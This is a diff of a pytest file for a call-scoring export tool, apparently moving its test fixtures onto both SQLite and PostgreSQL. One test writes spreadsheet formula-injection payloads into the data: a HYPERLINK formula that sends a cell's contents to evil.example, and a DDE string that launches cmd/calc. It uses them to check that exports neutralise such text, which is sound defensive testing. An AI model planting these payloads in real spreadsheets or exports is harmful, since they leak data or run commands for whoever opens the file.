@@ -4,13 +4,12 @@ from __future__ import annotations
 import csv
 import json
 import shutil
-import sqlite3
 import subprocess
 import sys
 from dataclasses import replace
 
 import pytest
-from conftest import ROOT, SAMPLES
+from conftest import ROOT, SAMPLES, copy_store, raw_sql
 from test_privacy import unmasked_numbers
 
 
@@ -20,13 +19,9 @@ def cli(*args, **kwargs):
 
 
 @pytest.fixture
-def store_copy(sample_store, tmp_path):
-    db = tmp_path / "results.sqlite"
-    src = sqlite3.connect(sample_store)
-    dst = sqlite3.connect(db)
-    src.backup(dst)
-    src.close(), dst.close()
-    return db
+def store_copy(sample_store, new_store):
+    """The scored sample calls, on each backend (SQLite, PostgreSQL)."""
+    return copy_store(sample_store, new_store())
 
 
 def test_overturn_recomputes_the_final_score_with_an_audit_trail(store_copy):
@@ -244,7 +239,7 @@ def test_formula_like_text_is_never_a_live_formula(store_copy, tmp_path):
     import zipfile
 
     evil = {"agent_name": '=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "team": "+cmd|' /C calc'!A0"}
-    with sqlite3.connect(store_copy) as conn:
+    with raw_sql(store_copy) as conn:
         conn.execute("UPDATE calls SET agent_name = ?, team = ?", (evil["agent_name"], evil["team"]))
     xlsx, csv_path = tmp_path / "hr.xlsx", tmp_path / "hr.csv"
     assert cli("export", "--db", store_copy, "--period", "2026-11", "-o", xlsx).returncode == 0
